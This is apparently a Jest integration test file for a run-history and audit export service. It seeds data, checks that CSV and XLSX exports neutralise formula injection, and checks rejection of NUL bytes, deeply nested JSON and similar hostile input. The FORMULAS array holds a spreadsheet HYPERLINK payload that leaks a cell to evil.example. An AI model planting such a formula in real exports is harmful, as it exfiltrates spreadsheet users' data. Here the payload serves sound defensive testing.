import { chmodSync, mkdtempSync, statSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import type { AuditEntry, Page } from '@hamgam/shared';
import { RunHistoryService } from '../../../src/history/run-history.service';
import { getBytes, signIn, startTestApp, waitFor, type HttpClient, type TestApp } from '../helpers/test-app';

// Enough runs that an export lasts far longer than one of its time slices, even on a busy machine.
const MANY_RUNS = 20_000;
const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1+2', '\r=1+2'];

/** MANY_RUNS plain runs, then one run per formula-like reason started by 'mallory', with a negative duration. */
async function seed(t: TestApp): Promise<void> {
  const rows: unknown[][] = [];
  for (let i = 0; i < MANY_RUNS; i++) {
    const at = new Date(Date.parse('2026-01-01T00:00:00Z') + i * 60_000).toISOString();
    const isFailed = i % 5 === 0;
    rows.push([
      'admin',
      'nightly',
      isFailed ? 'failed' : 'success',
      at,
      at,
      at,
      1000 + i,
      isFailed ? 'upstream' : null,
      isFailed ? `gateway answered 503 on page ${i}` : null,
    ]);
  }
  for (const reason of FORMULAS) rows.push(['mallory', reason, 'failed', '2026-12-01T00:00:00.000Z', null, null, -5, 'upstream', '=1+1']);
  // Many rows a statement, in ids' order, on either database.
  for (let start = 0; start < rows.length; start += 500) {
    const chunk = rows.slice(start, start + 500);
    await t.query(
      `INSERT INTO data_syncs (source_id, trigger, triggered_by, reason, status, created_at, started_at, finished_at, duration_ms, fetched, error_kind, error_message)
      VALUES ${chunk.map(() => `('faculty', 'manual', ?, ?, ?, ?, ?, ?, ?, 100, ?, ?)`).join(', ')}`,
      chunk.flat(),
    );
  }
}

type Download = { status: number; bytes: number; isComplete: boolean };

/** A GET read by a raw client: `onData` may destroy the request (a client that goes away mid-download). */
function download(
  port: number,
  path: string,
  cookie: string,
  onData: (request: http.ClientRequest, bytes: number) => void = () => undefined,
): Promise<Download> {
  return new Promise((resolve) => {
    let bytes = 0;
    let status = 0;
    const request = http.get({ host: '127.0.0.1', port, path, headers: { cookie } }, (response) => {
      status = response.statusCode ?? 0;
      response.on('data', (chunk: Buffer) => {
        bytes += chunk.length;
        onData(request, bytes);
      });
      response.on('error', () => undefined);
      response.on('close', () => resolve({ status, bytes, isComplete: response.complete }));
    });
    request.on('error', () => resolve({ status, bytes, isComplete: false }));
  });
}

const csvLines = (bytes: Buffer) => bytes.subarray(3).toString('utf8').trim().split('\n');

// Replays the security review's attacks ("Hardening": findings 1, 5 and the small ones of 7) against the running app.
describe('exports and input under attack', () => {
  let t: TestApp;
  let auditor: () => HttpClient;

  let auditorCookie: string;
  let port: number;

  beforeAll(async () => {
    t = await startTestApp({ env: { TRUST_PROXY: '1' } });
    await seed(t);
    auditor = await t.as('auditor');
    await t.app.listen(0, '127.0.0.1');
    port = (t.app.getHttpServer().address() as AddressInfo).port;
    auditorCookie = await signIn(t.app.getHttpServer(), 'test-auditor', 'auditor-test-password');
  });

  afterEach(() => {
    jest.restoreAllMocks();
  });

  afterAll(async () => {
    await t.close();
  });

  it('should answer 400 and stay up when an auditor asks for an export searching for a NUL', async () => {
    const response = await download(port, '/api/runs/export.xlsx?q=%00abc', auditorCookie);
    expect(response.status).toBe(400);
    await auditor().get('/api/health').expect(200);
  });

  it('should cut the stream, log one line and stay up when the history fails in the middle of an export', async () => {
    const history = t.app.get(RunHistoryService);
    const iterate = history.iterate.bind(history);
    jest.spyOn(history, 'iterate').mockImplementation(async function* (query) {
      let count = 0;
      for await (const run of iterate(query)) {
        if (++count > 3000) throw new Error('SqliteError: disk I/O error');
        yield run;
      }
    });

    for (const format of ['csv', 'xlsx']) {
      const response = await download(port, `/api/runs/export.${format}`, auditorCookie);
      expect(response).toMatchObject({ status: 200, isComplete: false });
      expect(response.bytes).toBeGreaterThan(0);
      await auditor().get('/api/health').expect(200);
    }
    const lines = t.logger.lines.filter((line) => line.includes('disk I/O error'));
    expect(lines).toEqual([
      expect.stringMatching(/hamgam-runs\.csv stopped after 3,000 rows: SqliteError: disk I\/O error/),
      expect.stringMatching(/hamgam-runs\.xlsx stopped after 3,000 rows/),
    ]);
  });

  it('should answer a plain error, not a file, when the history fails before the first row', async () => {
    jest.spyOn(t.app.get(RunHistoryService), 'iterate').mockImplementation(async function* () {
      yield* [];
      throw new Error('SqliteError: unterminated string');
    });
    const response = await auditor().get('/api/runs/export.xlsx').expect(500);
    expect(response.headers['content-type']).toContain('application/json');
    expect(response.headers['content-disposition']).toBeUndefined();
  });

  it('should stop reading, log the disconnect and serve the next export when a client goes away mid-export', async () => {
    const aborted = await download(port, '/api/runs/export.xlsx', auditorCookie, (request) => request.destroy());
    expect(aborted.isComplete).toBe(false);

    const line = await waitFor(() => t.logger.lines.find((entry) => /hamgam-runs\.xlsx stopped after .* rows: the client closed the connection/.test(entry)));
    const rowsRead = Number(/after ([\d,]+) rows/.exec(line)![1].replace(/,/g, ''));
    expect(rowsRead).toBeLessThan(MANY_RUNS);
    await auditor().get('/api/health').expect(200);
    const next = await getBytes(auditor(), '/api/runs/export.xlsx?triggeredBy=mallory&lang=en');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(next.body as unknown as Parameters<typeof workbook.xlsx.load>[0]);
    expect(workbook.getWorksheet('Runs')!.rowCount).toBe(1 + FORMULAS.length);
  });

  it('should answer /api/health while a big export is still streaming', async () => {
    const history = t.app.get(RunHistoryService);
    const iterate = history.iterate.bind(history);
    let rowsRead = 0;
    jest.spyOn(history, 'iterate').mockImplementation(async function* (query) {
      for await (const run of iterate(query)) {
        rowsRead++;
        yield run;
      }
    });
    const events: string[] = [];
    let rowsReadAtHealth = -1;
    let health: Promise<void> | undefined;
    const exported = download(port, '/api/runs/export.xlsx', auditorCookie, () => {
      health ??= auditor()
        .get('/api/health')
        .expect(200)
        .then(() => {
          rowsReadAtHealth = rowsRead;
          events.push('health answered');
        });
    }).then((response) => {
      events.push('export ended');
      return response;
    });

    expect(await exported).toMatchObject({ status: 200, isComplete: true });
    await health;
    expect(events).toEqual(['health answered', 'export ended']);
    expect(rowsReadAtHealth).toBeLessThan(rowsRead);
    expect(rowsRead).toBe(MANY_RUNS + FORMULAS.length);
  });

  it('should write formula-like text as quoted text and numbers as numbers when runs are exported as CSV', async () => {
    const lines = csvLines((await getBytes(auditor(), '/api/runs/export.csv?triggeredBy=mallory')).body);
    const body = lines.slice(1).join('\n');
    expect(lines).toHaveLength(1 + FORMULAS.length);
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")"`);
    for (const formula of ['+1+2', '-2+3', '@SUM(A1:A2)', '=1+1']) expect(body).toContain(`,'${formula},`);
    expect(body).toContain(`,'\t=1+2,`);
    expect(body).toContain(`"'\r=1+2"`);
    expect(body).not.toMatch(/,[=+@]/);
    for (const line of lines.slice(1)) expect(line).toContain(',-5,');
    expect(body).not.toContain("'-5");
  });

  it('should quote an X-Forwarded-For written like a formula when the audit trail is exported as CSV', async () => {
    await t.anonymous().post('/api/auth/login').set('X-Forwarded-For', '=2+5').send({ username: 'nobody', password: 'wrong-password' }).expect(401);
    const [entry] = ((await auditor().get('/api/audit?action=login.failed').expect(200)).body as Page<AuditEntry>).items;
    expect(entry.ip).toBe('=2+5');
    const text = (await getBytes(auditor(), '/api/audit/export.csv?action=login.failed')).body.toString('utf8');
    expect(text).toContain(`,'=2+5,`);
    expect(text).not.toContain(',=2+5');
  });

  it('should write formula-like text as string cells, not formulas, when runs are exported as XLSX', async () => {
    const response = await getBytes(auditor(), '/api/runs/export.xlsx?triggeredBy=mallory&lang=en');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.body as unknown as Parameters<typeof workbook.xlsx.load>[0]);
    const sheet = workbook.getWorksheet('Runs')!;
    const headers = (sheet.getRow(1).values as unknown[]).map(String);
    const reasons = [];
    for (let row = 2; row <= sheet.rowCount; row++) {
      const reason = sheet.getRow(row).getCell(headers.indexOf('Reason'));
      const duration = sheet.getRow(row).getCell(headers.indexOf('Duration (ms)'));
      expect([reason.type, reason.formula]).toEqual([ExcelJS.ValueType.String, undefined]);
      expect(duration.value).toBe(-5);
      reasons.push(reason.value);
    }
    // XML reads a carriage return back as a line feed.
    expect(reasons.sort()).toEqual(FORMULAS.map((reason) => reason.replace('\r', '\n')).sort());
  });

  it.each([
    ['/api/runs?q=%00abc', 'q'],
    ['/api/runs?q=a%01b', 'q'],
    ['/api/runs?triggeredBy=sara%00', 'triggeredBy'],
    ['/api/runs/export.csv?q=%00abc', 'q'],
    ['/api/runs/export.xlsx?q=%00abc', 'q'],
    ['/api/audit?actor=%00admin', 'actor'],
    ['/api/audit/export.csv?actor=%1Badmin', 'actor'],
    ['/api/sources/faculty/records?q=%00abc', 'q'],
    ['/api/runs?page=1e308', 'page'],
    ['/api/audit?page=1e308', 'page'],
    ['/api/sources/faculty/records?page=1e308', 'page'],
  ])('should answer 400 naming the field when %s is asked', async (path, field) => {
    const logged = t.logger.lines.length;
    const response = await auditor().get(path).expect(400);
    expect(response.body.fields[field]).toEqual([expect.any(String)]);
    expect(t.logger.lines.slice(logged).join('\n')).not.toMatch(/SqliteError|QueryFailedError/);
  });

  it('should still answer pages and searches within the limits when the input is plain', async () => {
    await auditor().get('/api/runs?q=abc&page=1000000').expect(200);
    await auditor()
      .get(`/api/runs?q=${encodeURIComponent('کد ملی')}`)
      .expect(200);
    await auditor().get('/api/sources/faculty/records?q=abc&page=2').expect(200);
  });

  it.each([
    ['POST', '/api/users'],
    ['PATCH', '/api/sources/faculty'],
    ['POST', '/api/sources/faculty/runs'],
  ])('should answer 400 without a stack trace in the log when %s %s gets JSON nested 2,000 deep', async (method, path) => {
    const body = '{"a":'.repeat(2000) + '1' + '}'.repeat(2000);
    const request = method === 'POST' ? t.http().post(path) : t.http().patch(path);
    const logged = t.logger.lines.length;
    const response = await request.set('Content-Type', 'application/json').send(body).expect(400);
    expect(response.body.message).toBe('the JSON body nests deeper than 32 levels');
    expect(t.logger.lines.slice(logged).join('\n')).not.toMatch(/RangeError|Maximum call stack|\n\s+at /);
  });

  it('should still take ordinary JSON and refuse malformed JSON as before when bodies are not deep', async () => {
    await t
      .http()
      .patch('/api/sources/faculty')
      .send({ timeoutSeconds: 1200, connection: { baseUrl: 'http://127.0.0.1:9/' } })
      .expect(200);
    const malformed = await t.http().patch('/api/sources/faculty').set('Content-Type', 'application/json').send('{"timeoutSeconds":').expect(400);
    expect(malformed.body.message).toBe('Unexpected end of JSON input');
  });

  it.each([
    ['a list', (http: () => HttpClient) => http().get('/api/runs').expect(200)],
    ['the health check', (http: () => HttpClient) => http().get('/api/health').expect(200)],
    ['a refused query', (http: () => HttpClient) => http().get('/api/runs?page=0').expect(400)],
    ['a refused body', (http: () => HttpClient) => http().patch('/api/sources/faculty').set('Content-Type', 'application/json').send('{').expect(400)],
    ['an unknown path', (http: () => HttpClient) => http().get('/api/nothing-here').expect(404)],
  ])('should tell browsers and proxies not to store %s when /api answers', async (_name, ask) => {
    const response = await ask(t.http);
    expect(response.headers['cache-control']).toBe('no-store');
  });

  it('should say no-store to a visitor without a session too when a route needs one', async () => {
    const response = await t.anonymous().get('/api/runs').expect(401);
    expect(response.headers['cache-control']).toBe('no-store');
  });
});

describe('the data folder and database files', () => {
  it('should be readable by the service user alone when the app starts on a folder and database left open to others', async () => {
    const dataDir = mkdtempSync(join(tmpdir(), 'hamgam-int-'));
    const mode = (path: string) => statSync(path).mode & 0o777;
    chmodSync(dataDir, 0o755);
    writeFileSync(join(dataDir, 'hamgam.sqlite'), '', { mode: 0o644 });
    const t = await startTestApp({ dataDir });
    try {
      expect(mode(dataDir)).toBe(0o700);
      // On PostgreSQL the folder holds the key file alone; the file left there is not the app's database.
      if (t.dialect === 'sqlite') {
        for (const file of ['hamgam.sqlite', 'hamgam.sqlite-wal', 'hamgam.sqlite-shm']) expect([file, mode(join(dataDir, file))]).toEqual([file, 0o600]);
      }
    } finally {
      await t.close();
    }
  });
});
